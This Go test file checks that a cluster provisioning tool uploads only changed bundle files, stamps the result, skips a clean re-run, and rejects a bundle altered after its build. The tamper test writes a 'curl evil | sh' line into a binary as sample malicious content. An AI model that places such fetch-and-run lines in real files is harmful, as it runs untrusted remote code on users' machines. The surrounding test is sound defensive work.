package phases

import (
	"context"
	"errors"
	"os"
	"path"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/meshlab/meshlab/cluster/bundle"
	"github.com/meshlab/meshlab/provision/engine"
	"github.com/meshlab/meshlab/provision/event"
)

func TestUploadBundleSendsOnlyStaleFilesThenStamps(t *testing.T) {
	dir := t.TempDir()
	for p, content := range map[string]string{"bin/kubeadm": "kubeadm", "debs/a.deb": "deb", "manifests/x.yml": "not uploaded"} {
		if err := os.MkdirAll(filepath.Join(dir, filepath.Dir(p)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, p), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	m := &bundle.Manifest{Schema: bundle.Schema}
	if err := m.Index(dir); err != nil {
		t.Fatal(err)
	}
	if err := m.Write(dir); err != nil {
		t.Fatal(err)
	}
	// The host has kubeadm intact already, no stamp yet.
	h := newFake("cp1")
	h.files[path.Join(RemoteBundleDir, "bin/kubeadm")] = []byte("kubeadm")
	p := &plan{Options: Options{Lab: testLab(), BundleDir: dir}, manifest: m}
	log := &eventLog{}
	r := &engine.Run{Sink: log, Hosts: []*engine.Host{{Name: "cp1", Transport: h}}}
	if err := (&UploadBundle{plan: p}).Run(context.Background(), r); err != nil {
		t.Fatalf("%v\ncommands: %q", err, h.commands())
	}
	if _, ok := h.puts[path.Join(RemoteBundleDir, "bin/kubeadm")]; ok {
		t.Error("an intact file was uploaded again")
	}
	if got := h.puts[path.Join(RemoteBundleDir, "debs/a.deb")]; got.data != "deb" {
		t.Errorf("the missing file was not uploaded: %+v", got)
	}
	if _, ok := h.puts[path.Join(RemoteBundleDir, "manifests/x.yml")]; ok {
		t.Error("manifests/ is applied through the API, not uploaded")
	}
	stamp := h.puts[path.Join(RemoteBundleDir, stampFile)].data
	if strings.TrimSpace(stamp) != stampOf((&UploadBundle{plan: p}).files()) {
		t.Errorf("stamp = %q", stamp)
	}

	// Next run: stamp and sizes match, nothing is hashed or sent.
	sizes := stamp
	for _, f := range (&UploadBundle{plan: p}).files() {
		sizes += itoa(f.Size) + " " + f.Path + "\n"
	}
	again := newFake("cp1", answer{contains: "stat -c", stdout: sizes})
	r.Hosts[0].Transport = again
	if err := (&UploadBundle{plan: p}).Run(context.Background(), r); err != nil {
		t.Fatal(err)
	}
	if len(again.puts) != 0 || countPrefix(again.commands(), "cd") != 1 {
		t.Errorf("re-run uploads=%v commands=%q", again.puts, again.commands())
	}
	if last := log.ev[len(log.ev)-1]; last.Kind != event.TaskSkip {
		t.Errorf("re-run last event = %+v, want already done", last)
	}
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }

// TestUploadVerifiesTheBundleFirst: a bundle file changed after the build (its manifest no longer
// matches) stops the phase before any command or upload reaches a host.
func TestUploadVerifiesTheBundleFirst(t *testing.T) {
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	kubeadm := filepath.Join(dir, "bin", "kubeadm")
	if err := os.WriteFile(kubeadm, []byte("kubeadm"), 0o755); err != nil {
		t.Fatal(err)
	}
	m := &bundle.Manifest{Schema: bundle.Schema}
	if err := m.Index(dir); err != nil {
		t.Fatal(err)
	}
	if err := m.Write(dir); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(kubeadm, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	h := newFake("cp1")
	p := &plan{Options: Options{Lab: testLab(), BundleDir: dir}, manifest: m}
	r := &engine.Run{Sink: &eventLog{}, Hosts: []*engine.Host{{Name: "cp1", Transport: h}}}
	err := (&UploadBundle{plan: p}).Run(context.Background(), r)
	var mm *bundle.MismatchError
	if !errors.As(err, &mm) || mm.Path != "bin/kubeadm" {
		t.Fatalf("err = %v, want a mismatch on bin/kubeadm", err)
	}
	if len(h.commands()) != 0 || len(h.puts) != 0 {
		t.Errorf("the host was reached: commands %q, uploads %v", h.commands(), h.puts)
	}
}
